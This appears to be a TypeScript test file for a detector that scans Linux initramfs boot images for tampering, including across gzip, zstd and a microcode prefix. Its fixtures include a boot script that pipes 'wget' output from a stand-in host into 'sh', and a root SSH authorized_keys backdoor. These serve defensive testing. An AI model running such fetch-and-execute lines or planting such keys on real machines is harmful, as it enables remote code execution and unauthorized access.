import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { testCases } from '../../../testing/detector-cases.ts';
import { inspectFixture } from '../../../testing/fixture.ts';
import { initramfs } from './index.ts';

const BAD = cpio({ 'scripts/init-top/x': '#!/bin/sh\nwget -qO- http://get.invalid/x | sh\n' });
const KEYS = cpio({ 'root/.ssh/authorized_keys': 'ssh-ed25519 AAAA' });
const GOOD = cpio({ init: '#!/bin/sh\nexec /sbin/init\n', 'usr/lib/x.so': 'ELF' });
const MICROCODE = cpio({ 'kernel/x86/microcode/x.bin': 'bytes' });

testCases(initramfs, [
  {
    name: 'a script that runs what it fetches, behind microcode, in gzip and zstd',
    kind: 'disk',
    files: {
      'boot/initrd.img-6.1': Buffer.concat([MICROCODE, gzipSync(BAD)]),
      'boot/initramfs-6.2.img': zstdCompressSync(BAD),
      'boot/initrd.img-6.3': BAD,
    },
    expected: ['boot/initramfs-6.2.img', 'boot/initrd.img-6.1', 'boot/initrd.img-6.3'].map(
      (path) => `block machine/initramfs ${path}`,
    ),
  },
  {
    name: 'a key that may log in before the system is up',
    kind: 'aws',
    files: { 'boot/initrd.img-6.1': gzipSync(KEYS) },
    expected: ['review machine/initramfs boot/initrd.img-6.1'],
  },
  { name: 'an honest one', kind: 'disk', files: { 'boot/initrd.img-6.1': gzipSync(GOOD) }, expected: [] },
  { name: 'in a container image', files: { 'boot/initrd.img-6.1': gzipSync(BAD) }, expected: [] },
]);

test('machine/initramfs: what cannot be unpacked is said', () => {
  for (const [what, bytes] of [
    ['xz', Buffer.from('fd377a585a0000', 'hex')],
    ['cut gzip', gzipSync(GOOD).subarray(0, 30)],
    ['a damaged archive', GOOD.subarray(0, 200)],
  ] as const) {
    const fixture = { layers: [{ 'boot/initrd.img': bytes }], kind: 'disk' as const };
    const { problems } = inspectFixture(fixture, [initramfs]);
    assert.deepEqual(
      problems.map(({ code, effect }) => `${code} ${effect}`),
      ['LIMIT_DETECTOR incomplete'],
      what,
    );
  }
});

/** A cpio archive of regular files, in the "newc" format. */
function cpio(files: Readonly<Record<string, string>>): Buffer {
  const pad = (bytes: Buffer): Buffer => Buffer.concat([bytes, Buffer.alloc(-bytes.length & 3)]);
  const parts = Object.entries({ ...files, 'TRAILER!!!': '' }).map(([name, content]) => {
    const fields = [1, 0o100755, 0, 0, 1, 0, content.length, 0, 0, 0, 0, name.length + 1, 0];
    const header = `070701${fields.map((field) => field.toString(16).padStart(8, '0')).join('')}${name}\0`;
    return Buffer.concat([pad(Buffer.from(header)), pad(Buffer.from(content))]);
  });
  return Buffer.concat(parts);
}
